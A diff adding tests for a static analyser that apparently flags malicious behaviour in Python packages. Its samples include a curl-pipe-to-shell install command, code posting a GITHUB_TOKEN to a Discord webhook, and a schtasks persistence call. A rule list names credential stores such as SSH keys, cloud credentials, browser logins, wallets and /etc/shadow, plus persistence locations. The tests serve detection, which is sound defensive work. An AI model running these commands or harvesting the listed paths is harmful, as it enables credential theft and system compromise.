@@ -6,6 +6,8 @@ from __future__ import annotations
 import time
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from bot.analysis.python_code import analyze_python
 from bot.analysis.types import FileRole, SourceFile
@@ -460,3 +462,125 @@ def test_files_without_risky_words_are_not_parsed() -> None:
 def test_not_installed_files_are_marked() -> None:
     [finding] = findings("import os\nos.system('id')\n", FileRole.NOT_INSTALLED)
     assert finding.not_installed is True
+
+
+def test_version_exec_idiom_in_setup_py_is_low() -> None:
+    source = """\
+    import os
+    from setuptools import setup
+    about = {}
+    exec(open(os.path.join(here, "pkg", "__version__.py")).read(), about)
+    exec(compile(open("pkg/version.py").read(), "version.py", "exec"))
+    setup(version=about["__version__"])
+    """
+    assert [(f.type.value, f.severity, f.api, f.line, f.normalized, f.reason)
+            for f in findings(source, INSTALL)] == [
+        ("dynamic-code", Severity.LOW, "builtins.exec", 4, "local-file",
+         "Runs code read from the local file __version__.py with exec."),
+        ("dynamic-code", Severity.LOW, "builtins.exec", 5, "local-file",
+         "Runs code read from the local file pkg/version.py with exec."),
+        ("dynamic-code", Severity.LOW, "builtins.compile", 5, "local-file",
+         "Runs code read from the local file pkg/version.py with compile."),
+    ]
+
+
+def test_python2_setup_py_still_maps_to_install_network() -> None:
+    source = b"import os\nprint 'installing'\nos.system('curl http://x | sh')\n"
+    result = analyze(source, INSTALL)
+    assert result.parsed is False
+    assert [(f.type.value, f.severity, f.api, f.line, f.reason) for f in result.findings] == [
+        ("install-network", Severity.CRITICAL, "os.system", 3,
+         "Starts a shell command with os.system while the package is installed."),
+    ]
+
+
+def test_import_time_file_write() -> None:
+    source = "import os\nif not os.path.exists(MARK):\n    open(MARK, 'w').close()\n"
+    assert rows(source, INIT) == [
+        ("filesystem-write", "builtins.open", 3, "Writes a file with open."),
+        ("import-time-side-effect", "builtins.open", 3,
+         "Writes a file with open when the package is imported."),
+    ]
+
+
+def test_crlf_and_form_feed_keep_line_numbers() -> None:
+    source = b"import os\r\n\x0c\r\nx = 1\r\nos.system('a')\r\n"
+    [finding] = findings(source)
+    assert (finding.line, finding.evidence) == (4, "os.system('a')")
+
+
+def test_findings_are_capped() -> None:
+    source = "import os\n" + "".join(f"os.system('cmd{i}')\n" for i in range(1100))
+    result = analyze(source)
+    assert len(result.findings) == 1000
+    assert result.incomplete_reason == "more than 1000 findings: the rest were dropped"
+
+
+@given(st.binary(max_size=400))
+@settings(max_examples=150, deadline=None)
+def test_arbitrary_bytes_never_crash(data: bytes) -> None:
+    for role in (FileRole.MODULE, INSTALL):
+        result = analyze(b"import os\n" + data, role)
+        assert all(f.type in AlertType for f in result.findings)
+
+
+@given(st.text(alphabet=st.sampled_from(list("()[]{}'\"\\ \n#:=+-*.,;abcxos\u202e\u200b")),
+               max_size=300))
+@settings(max_examples=150, deadline=None)
+def test_arbitrary_punctuation_never_crashes(text: str) -> None:
+    analyze("import os, base64\n" + text)
+
+
+def test_every_path_rule_has_a_keyword() -> None:
+    from bot.analysis.sensitive import PATH_RULES, match_paths
+
+    samples = {
+        "~/.ssh": "/home/u/.ssh/id_rsa", "~/.aws/credentials": "~/.aws/credentials",
+        "~/.config/gcloud": "~/.config/gcloud/x", "~/.azure": "~/.azure/t",
+        "~/.kube/config": "~/.kube/config", "~/.docker/config.json": "~/.docker/config.json",
+        "~/.npmrc": "~/.npmrc", "~/.pypirc": "~/.pypirc", "~/.netrc": "~/.netrc",
+        "~/.git-credentials": "~/.git-credentials", "~/.gnupg": "~/.gnupg/",
+        "browser:chromium": "Google\\Chrome\\User Data", "browser:firefox": "logins.json",
+        "wallet": "wallet.dat", "discord-token": "discord\\Local Storage\\leveldb",
+        "telegram": "Telegram Desktop\\tdata", "/etc/passwd": "/etc/shadow",
+        "keychain": "~/Library/Keychains/login.keychain-db",
+        "persistence:cron": "/etc/cron.d/x", "persistence:systemd": "/etc/systemd/system/x",
+        "persistence:launchd": "Library/LaunchDaemons/x",
+        "persistence:startup-folder": "Start Menu\\Programs\\Startup",
+        "persistence:run-key": "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+        "persistence:init": "/etc/rc.local", "persistence:shell-rc": "~/.bashrc",
+    }
+    assert set(samples) == {rule[0] for rule in PATH_RULES}
+    for label, text in samples.items():
+        assert label in [rule[0] for rule in match_paths(text)], label
+
+
+def test_names_bound_to_constants_are_folded() -> None:
+    source = """\
+    import os, requests, subprocess
+    HOOK = "https://discord.com/api/webhooks/1/x"
+    VAR = "GITHUB_" + "TOKEN"
+    def send():
+        requests.post(HOOK, json={"t": os.environ[VAR]})
+    CMD = "curl"
+    CMD += " -s"
+    subprocess.run(CMD, shell=True)
+    """
+    assert [(f.type.value, f.api, f.line, f.normalized, f.reason) for f in findings(source)] == [
+        ("suspicious-url", "url:discord.com/api/webhooks", 2, "webhook endpoint",
+         "Refers to a webhook endpoint (discord.com/api/webhooks)."),
+        ("network", "requests.post", 5, "discord.com", "Makes an HTTP request with requests.post."),
+        ("env-secrets", "os.environ[GITHUB_TOKEN]", 5, "",
+         "Reads the GITHUB_TOKEN environment variable."),
+        ("shell", "subprocess.run", 8, "*",
+         "Starts a shell command with subprocess.run(shell=True)."),
+    ]
+
+
+def test_persistence_commands_are_system_hooks() -> None:
+    source = "import subprocess\nsubprocess.call(['schtasks', '/create', '/tn', 'u'])\n"
+    assert rows(source) == [
+        ("shell", "subprocess.call", 2, "Starts a process with subprocess.call."),
+        ("system-hooks", "command:schtasks", 2,
+         "Installs a scheduled or startup task by running schtasks."),
+    ]
